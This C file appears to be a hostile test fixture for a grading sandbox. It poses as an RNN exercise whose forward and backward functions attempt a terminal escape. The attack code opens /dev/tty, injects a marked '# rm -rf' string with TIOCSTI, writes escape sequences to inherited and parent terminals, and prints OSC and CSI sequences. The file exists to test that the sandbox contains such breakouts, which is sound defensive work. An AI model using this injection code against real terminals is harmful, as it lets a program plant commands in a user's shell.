/* An attack on the boundary, armed by tests/grade_hostile.sh: it reaches for the teacher's
 * terminal: opens /dev/tty and writes escape sequences, pushes "rm -rf" into its input with
 * TIOCSTI, writes to every inherited descriptor 0..255 that is a terminal and to the
 * terminals its parents hold (/proc/PID/fd/0..2), and prints escape sequences (title, clear
 * screen, a C1 CSI) for a report to carry there. What it writes carries the test's marker in
 * capitals, so that the test finds it on the terminal; it prints what it managed.
 * exercise: rnn_step
 * expect: wrong values
 * must not: reach the terminal (no marker on it), or report that it did
 */
/* @ARM@ */
#define _GNU_SOURCE
#include "gradlab_exercise.h"

#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

#ifdef GRADLAB_ATTACK_ARMED
static void say(int fd, const char *tag)
{
	char buf[200], mark[64];
	snprintf(mark, sizeof mark, "%s", "@MARK@");
	for (char *p = mark; *p; p++)
		*p = (char)toupper((unsigned char)*p);
	int n = snprintf(buf, sizeof buf, "\033]0;gradlab\007\033[1m%s-%s\033[0m\r\n", tag, mark);
	if (write(fd, buf, (size_t)n) < 0)
		return;
}

/* Push "# rm -rf STI-MARK" (no newline: nothing runs even if it lands) into fd's input. */
static int push(int fd)
{
	char text[128], mark[64];
	snprintf(mark, sizeof mark, "%s", "@MARK@");
	for (char *p = mark; *p; p++)
		*p = (char)toupper((unsigned char)*p);
	snprintf(text, sizeof text, "# rm -rf STI-%s", mark);
	for (char *p = text; *p; p++)
		if (ioctl(fd, TIOCSTI, p) < 0)
			return 0;
	return 1;
}

static void reach(void)
{
	static int done;
	if (done++)
		return;
	/* and into its output, which a report may show on the terminal */
	char mark[64];
	snprintf(mark, sizeof mark, "%s", "@MARK@");
	for (char *p = mark; *p; p++)
		*p = (char)toupper((unsigned char)*p);
	printf("\033]0;OSC-%s\007\033[2J\233""31m\n", mark);
	int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
	if (fd >= 0) {
		printf("attack: /dev/tty opened\n");
		say(fd, "TTY");
		if (push(fd))
			printf("attack: TIOCSTI pushed on /dev/tty\n");
		close(fd);
	} else {
		printf("attack: open /dev/tty failed, errno %d\n", errno);
	}
	for (int d = 0; d < 256; d++)
		if (isatty(d)) {
			printf("attack: descriptor %d is a tty\n", d);
			say(d, "FDTTY");
			if (push(d))
				printf("attack: TIOCSTI pushed on descriptor %d\n", d);
		}
	int pid = (int)getppid();
	for (int up = 0; up < 4 && pid > 1; up++) {
		char path[64];
		for (int k = 0; k < 3; k++) {
			snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, k);
			int t = open(path, O_WRONLY | O_NOCTTY);
			if (t >= 0 && isatty(t)) {
				printf("attack: a parent's descriptor %d is a tty\n", k);
				say(t, "PROCFD");
			}
			if (t >= 0)
				close(t);
		}
		snprintf(path, sizeof path, "/proc/%d/stat", pid);
		FILE *f = fopen(path, "r");
		int parent = 0;
		if (!f || fscanf(f, "%*d (%*[^)]) %*c %d", &parent) != 1)
			parent = 0;
		if (f)
			fclose(f);
		pid = parent;
	}
	fflush(stdout);
}
#endif

void rnn_step_forward(double *h_next, const double *x, const double *h_prev, const double *W_ih,
		      const double *W_hh, const double *b_ih, const double *b_hh, int B, int I,
		      int H)
{
#ifdef GRADLAB_ATTACK_ARMED
	reach();
#endif
}

void rnn_step_backward(double *dx, double *dh_prev, double *dW_ih, double *dW_hh, double *db_ih,
		       double *db_hh, const double *dh_next, const double *x,
		       const double *h_prev, const double *h_next, const double *W_ih,
		       const double *W_hh, int B, int I, int H)
{
#ifdef GRADLAB_ATTACK_ARMED
	reach();
#endif
}
